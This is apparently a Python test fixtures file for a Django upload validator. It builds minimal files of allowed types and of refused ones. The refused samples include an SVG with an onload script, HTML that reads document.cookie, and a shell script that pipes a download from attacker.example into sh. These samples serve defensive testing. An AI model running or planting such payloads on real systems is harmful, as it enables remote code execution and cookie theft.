"""Real, minimal files of each allowed type (and of refused ones), built in the test run."""

import io
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile

from tests.factories import MINIMAL_PDF

PDF = MINIMAL_PDF
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
CSV = b'invoice,amount\nINV-1,100.00\nINV-2,"1,250.00"\n'
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SCRIPT = b"#!/bin/sh\ncurl http://attacker.example/x | sh\n"

_OFFICE = "application/vnd.openxmlformats-officedocument"


def _content_types(main_part: str, part_name: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="{part_name}" ContentType="{main_part}"/>'
        "</Types>"
    )


def _zip(members: dict[str, str | bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def xlsx(extra: dict | None = None, main: str = f"{_OFFICE}.spreadsheetml.sheet.main+xml") -> bytes:
    return _zip(
        {
            "[Content_Types].xml": _content_types(main, "/xl/workbook.xml"),
            "xl/workbook.xml": "<workbook/>",
            **(extra or {}),
        }
    )


def docx() -> bytes:
    return _zip(
        {
            "[Content_Types].xml": _content_types(
                f"{_OFFICE}.wordprocessingml.document.main+xml", "/word/document.xml"
            ),
            "word/document.xml": "<document/>",
        }
    )


def plain_zip() -> bytes:
    return _zip({"notes.txt": "hello"})


def upload(name: str, data: bytes, content_type: str = "application/octet-stream"):
    return SimpleUploadedFile(name, data, content_type=content_type)
